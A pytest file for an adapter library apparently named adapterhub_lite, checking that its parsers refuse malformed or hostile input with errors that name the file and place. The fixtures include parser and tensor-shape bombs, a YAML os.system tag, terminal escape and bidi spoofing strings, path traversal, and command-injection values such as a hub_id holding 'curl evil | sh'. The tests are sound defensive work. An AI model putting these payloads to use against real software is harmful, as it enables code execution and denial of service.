"""Whatever a file holds, reading it ends in a value or in an error that names file and place."""

from __future__ import annotations

import ast
import dataclasses
import json
import struct
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from safetensors.torch import save

import adapterhub_lite
from adapterhub_lite import Home, composition, lock, published, records
from adapterhub_lite import manifest as manifests
from adapterhub_lite.catalog import entries
from adapterhub_lite.errors import (
    AhlError,
    CompositionError,
    DataError,
    ExchangeError,
    HubError,
    LockError,
    ManifestError,
    MethodError,
    WeightsError,
)
from adapterhub_lite.exchange.adapterhub_card import read_card
from adapterhub_lite.foreign.reading import Bounds, Reader
from adapterhub_lite.methods.bottleneck import BottleneckConfig
from adapterhub_lite.methods.lora import LoRAConfig
from adapterhub_lite.methods.prefix import PrefixConfig
from adapterhub_lite.model.sparse import unpacked
from tests.foreign.readers import READERS

DOCUMENTS = {
    "nothing": b"",
    "deep lists": b"[" * 100_000,
    "deep objects": b'{"a":' * 100_000,
    "deep table": b"a = " + b"[" * 100_000,
    "deep composition": b"stack(" * 5_000 + b"a",
    "deep front matter": b"---\nlanguage: " + b"[" * 60_000 + b"\n---\n",
    "deep blocks": b"---\n" + b"- " * 30_000 + b"a\n---\n",
    "digits": b'{"format": ' + b"9" * 5_000 + b"}",
    "digits in TOML": b"database = " + b"9" * 5_000,
    "64 bits and one": b'{"format": 1, "seed": 9223372036854775808}',
    "not UTF-8": b'{"format": "\xff\xfe"}',
    "zero bytes": b"\0" * 64,
    "a list": b"[1, 2]",
    "null": b"null",
    "a number": b"1",
    "not a number": b'{"format": NaN}',
    "infinite": b'{"format": 1e999}',
    "one key twice": b'{"format": 1, "format": 2}',
    "half a pair": b'{"format": "\\ud800"}',
    "many lists": b"[" + b"[]," * 400_000 + b"[]]",
    "aliases": b"---\na: &a [x, x]\nlanguage: [*a, *a]\n---\n",
    "tags": b"---\nlanguage: !!python/object/apply:os.system [echo]\n---\n",
    "settings": b"rank=1e300\nlength=10" + b"0" * 30,
    "a header": struct.pack("<Q", 1 << 62) + b"{}",
}


@pytest.mark.parametrize("document", DOCUMENTS.values(), ids=DOCUMENTS)
@pytest.mark.parametrize("read", READERS.values(), ids=READERS)
def test_every_reader_ends_in_a_value_or_an_error_of_ours(
    read: Callable[[bytes, Path], object],
    document: bytes,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "folder"))
    try:
        read(document, tmp_path / "folder")
    except AhlError as error:
        message = error.message
    else:
        message = ""
    assert len(message) < 10_000


READ = Reader(DataError)


@pytest.mark.parametrize(
    ("document", "words"),
    [
        ('{"a": 1,\n "b": }', "not JSON at line 2, column 7"),
        ('{"a": {"b": [0, {"c": 1, "c": 2}]}}', "at `a.b[1]`: the key `c` is there twice"),
        ('{"a": [0, 9223372036854775808]}', r"at `a\[1\]`: a whole number of more than 64 bits"),
        ('{"a": {"b": -Infinity}}', "at `a.b`: no finite number"),
        ('{"a": 1e999}', "at `a`: no finite number"),
        ('{"a": "\\ud800"}', "at `a`: half of a surrogate pair"),
        ("[" * 66 + "]" * 66, "nested deeper than 64 levels"),
        ("[" * 99_999, "nested deeper than 64 levels"),
        (b'{"a":\n "\xff"}', "not UTF-8: byte 0xff in line 2"),
        ("[" + "0," * 200_000 + "0]", "more than 200000 values"),
        (" " * (4 << 20) + "[]", "larger than 4194304 bytes"),
    ],
)
def test_an_error_says_where(document: str | bytes, words: str) -> None:
    with pytest.raises(DataError, match=f"^FILE: .*{words}".replace("a.b[1]", r"a\.b\[1\]")):
        READ.json(document, "FILE")


def test_what_is_within_bounds_is_read_as_it_is() -> None:
    value = {"a": [1, -0.5, True, None, "ü\n\x1b", {"b": {}}], "n": -(1 << 63), "m": (1 << 63) - 1}
    assert READ.json(json.dumps(value), "FILE") == value
    assert READ.json(b"\xef\xbb\xbf[]", "FILE") == []
    small = Reader(DataError, bounds=Bounds(depth=2))
    assert small.json("[[1]]", "FILE") == [[1]]


def test_a_file_that_is_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    import os

    os.mkfifo(tmp_path / "adapter.json")
    with pytest.raises(ManifestError, match="not a file"):
        manifests.read(tmp_path)


def test_nothing_else_reads_json_toml_or_yaml() -> None:
    """One reader has the bounds; a second one would not have them."""
    folder = Path(adapterhub_lite.__file__).parent
    parsers = {"json.loads", "json.load", "tomllib.loads", "tomllib.load", "metadata_load"}
    for path in [*folder.rglob("*.py"), *(folder.parent / "plugins").glob("*.py")]:
        if path.parent.name in {"foreign", "testing"}:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = ast.unparse(node.func)
                assert name not in parsers, f"{path}:{node.lineno}"
                assert not name.startswith("yaml."), f"{path}:{node.lineno}"


MANIFEST = {
    "format": 1,
    "kind": "language",
    "languages": [{"tag": "gv", "role": "language"}],
    "base": {
        "name": "tiny",
        "architecture": "bert",
        "hidden_size": 32,
        "layers": 3,
        "vocab_size": 96,
    },
    "method": "bottleneck",
    "config": {},
    "provider": {"plugin": "p", "version": "1"},
}


def _manifest(folder: Path, **changes: object) -> object:
    values = json.loads(json.dumps(MANIFEST))
    for path, value in changes.items():
        holder = values
        *steps, last = path.split("__")
        for step in steps:
            holder = holder.setdefault(step, {})
        holder[last] = value
    (folder / "adapter.json").write_text(json.dumps(values), encoding="utf-8")
    return manifests.read(folder)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("format", True),
        ("base__hidden_size", 10**30),
        ("base__hidden_size", 2**63),
        ("base__hidden_size", 2**31),
        ("base__hidden_size", 0),
        ("base__vocab_size", -1),
        ("base__layers", 0),
        ("leave_out", [-1]),
        ("licence", "MIT\x1b[2J"),
        ("licence", "MIT\n# Install"),
        ("licence", "MIT\u202e"),
        ("licence", "MIT\x85"),
        ("base__name", "tiny\tforged"),
        ("authors", ["a", "b\nhint: run this"]),
        ("task", "\u2067pos"),
        ("config", {"x": ["\x9b31m"]}),
        ("config", {"\x1b": 1}),
        ("source", {"hub_id": "a/b`; curl evil | sh; `"}),
        ("source", {"hub_id": "../../x"}),
        ("source", {"hub_id": "a/b", "revision": "main; rm"}),
        ("weights", {"sha256": "0", "size": -1}),
    ],
)
def test_a_manifest_with_what_cannot_be_is_refused(
    tmp_path: Path, field: str, value: object
) -> None:
    with pytest.raises(ManifestError) as caught:
        _manifest(tmp_path, **{field: value})
    assert "adapter.json" in caught.value.message


def test_honest_manifests_are_read(tmp_path: Path) -> None:
    _manifest(tmp_path, citation="@article{\n\ta}\n", licence='"MIT" \\ é', authors=["[dev]"])
    _manifest(tmp_path, source={"hub_id": "AdapterHub/bert-base_x.y", "revision": "refs/pr/1"})


def test_a_catalogue_line_is_an_entry_or_a_data_error(tmp_path: Path) -> None:
    line = json.loads(entries.TEXT.read_text(encoding="utf-8").splitlines()[0])
    for key, value in (
        ("kind", "task\n"),
        ("kind", ["task"]),
        ("languages", {"rôle": ["en"]}),
        ("languages", {"language": "en"}),
        ("head", {"labels": ["a"]}),
        ("head", {"type": "t", "labels": "abc"}),
        ("size", "large"),
        ("authors", [1]),
        ("licence", "MIT\x1b"),
    ):
        path = tmp_path / "c.jsonl"
        path.write_text(json.dumps(line | {key: value}), encoding="utf-8")
        with pytest.raises(DataError, match=r"^c\.jsonl:1: "):
            entries.read(path)
    (tmp_path / "c.jsonl").write_bytes(b'{"hub_id": "\xff"}')
    with pytest.raises(DataError, match="not UTF-8"):
        entries.read(tmp_path / "c.jsonl")


def test_a_lock_holds_no_text_that_is_obeyed(tmp_path: Path) -> None:
    path = tmp_path / "a.lock"
    path.write_text('{"lock": 1, "composition": "a\\u001b[2J"}', encoding="utf-8")
    with pytest.raises(LockError, match=r"at `composition`"):
        lock.read(path)


@pytest.mark.parametrize("key", ["license", "base_model", "datasets"])
def test_a_card_states_nothing_that_is_obeyed(tmp_path: Path, key: str) -> None:
    card = f'---\n{key}: "MIT\\e[2J\\e]0;x\\a"\n---\n'
    (tmp_path / "README.md").write_text(card, encoding="utf-8")
    with pytest.raises(ExchangeError, match=f"`{key}`"):
        read_card(tmp_path)


def test_a_card_is_read_as_it_is_written(tmp_path: Path) -> None:
    card = "---\nlanguage: no\nlicense: 'mit'\ndescription: |\n  two\n  lines\nmore: ~\n---\n# x\n"
    (tmp_path / "README.md").write_text(card, encoding="utf-8")
    assert read_card(tmp_path)[0].licence == "mit"
    assert Reader(DataError).front_matter(card, "card") == {
        "language": "no",
        "license": "mit",
        "description": "two\nlines\n",
        "more": None,
    }


@pytest.mark.parametrize(
    ("kind", "setting"),
    [
        (LoRAConfig, "rank=1000000000000000000"),
        (LoRAConfig, "ranks=query.0=1e18"),
        (LoRAConfig, "alpha=1e999"),
        (PrefixConfig, f"length={2**63}"),
        (PrefixConfig, f"inner={2**62}"),
        (BottleneckConfig, "reduction=1e-300"),
        (BottleneckConfig, "reductions=[1e-300, 2.0]"),
        (BottleneckConfig, "scale=NaN"),
    ],
)
def test_a_config_that_cannot_be_is_refused_by_its_own_check(kind: type, setting: str) -> None:
    with pytest.raises(MethodError, match=setting.partition("=")[0]):
        kind.from_settings([setting])  # type: ignore[attr-defined]


def _bomb(shape: list[int]) -> bytes:
    return save(
        {
            "x#values": torch.zeros(0),
            "x#places": torch.zeros(0, dtype=torch.int64),
            "x#shape": torch.tensor(shape),
        }
    )


@pytest.mark.parametrize(
    "shape", [[500_000_000], [1_000_000_000], [-1], [-4, -4], [2**62, 4], [2**40, 2**40], [2] * 90]
)
@pytest.mark.parametrize("expected", [None, {"x": (2, 3)}])
def test_nothing_is_made_of_a_shape_that_is_not_expected(
    shape: list[int], expected: dict[str, tuple[int, ...]] | None, tmp_path: Path
) -> None:
    import tracemalloc

    from safetensors.torch import load

    tensors = load(_bomb(shape))
    tracemalloc.start()
    with pytest.raises(WeightsError):
        unpacked(tensors, tmp_path / "weights.safetensors", expected)
    assert tracemalloc.get_traced_memory()[1] < 1 << 20
    tracemalloc.stop()


def test_a_sparse_tensor_of_the_expected_shape_is_read(tmp_path: Path) -> None:
    from safetensors.torch import load

    found = unpacked(load(_bomb([2, 3])), tmp_path, {"x": (2, 3)})
    assert found["x"].tolist() == [[0.0] * 3] * 2


def test_compositions_nest_as_deep_as_anybody_needs() -> None:
    text = "stack(" * 32 + "a" + ")" * 32
    assert str(composition.parse(text)) == text
    for deep in ("stack(" * 33 + "a" + ")" * 33, "average(1*" * 5_000, "fuse(" * 20_000):
        with pytest.raises(CompositionError):
            composition.parse(deep)
    with pytest.raises(CompositionError, match="finite"):
        composition.parse("average(1e999*a, 1*b)")


def test_records_read_lists_as_well() -> None:
    assert records.reader(list[int])([1, 2], "x") == [1, 2]


def test_a_pulled_config_with_one_key_twice_says_so(tmp_path: Path) -> None:
    from adapterhub_lite.hub import content

    path = tmp_path / "a.json"
    path.write_text('{"r": 8, "r": 16}', encoding="utf-8")
    with pytest.raises(HubError, match="`r` is there twice"):
        content.check_file(path, "a.json")


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("n", "9" * 25),
        ("n", str(2**63)),
        ("seed", "9" * 25),
        ("seed", "-1"),
        ("value", "NaN"),
        ("value", "1_0"),
        ("value", "1e999"),
        ("when", "0001-01-01T00:00:00+23:59"),
        ("when", "9999-12-31T23:59:59-23:59"),
        ("task", "pos\x85"),
        ("dataset", "\u202ed"),
        ("origin", "a\u2028hint: b"),
        ("composition", "stack(" * 5_000),
    ],
)
def test_a_score_that_cannot_be_names_its_line(tmp_path: Path, column: str, value: str) -> None:
    row = {
        "target": "gv",
        "value": "0.5",
        "task": "pos",
        "dataset": "d",
        "metric": "f1",
        "composition": "full-fine-tuning",
        "source": "en",
    }
    path = tmp_path / "scores.jsonl"
    path.write_text(json.dumps(row) + "\n" + json.dumps(row | {column: value}), encoding="utf-8")
    home = Home.init(tmp_path / "home")
    with pytest.raises(DataError) as caught:
        published.read_scores(published.Table(path, {}, {}), home.registry)
    assert caught.value.message.startswith(f"{path}:2: ")


def test_minus_zero_is_zero(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_text(
        "target,value,task,dataset,metric,composition,source\ngv,-0,pos,d,f1,full-fine-tuning,en\n"
    )
    home = Home.init(tmp_path / "home")
    (score,) = published.read_scores(published.Table(path, {}, {}), home.registry)
    assert str(score.value) == "0.0"


def test_a_registry_takes_in_no_record_that_a_terminal_obeys(tmp_path: Path) -> None:
    """Also through the API, as the catalogue and plugins add: not only from files."""
    sound = manifests.from_json(MANIFEST)
    registry = Home.init(tmp_path / "home").registry
    for changes in ({"licence": "MIT\x1b[2J"}, {"authors": ("a\nb",)}, {"dataset": "\u2066"}):
        with pytest.raises(ManifestError, match=next(iter(changes))):
            registry.add(dataclasses.replace(sound, **changes), name="x", remote=True)
    registry.add(dataclasses.replace(sound, licence="[dev] é"), name="x", remote=True)
    assert [adapter.name for adapter in registry.find()] == ["x"]
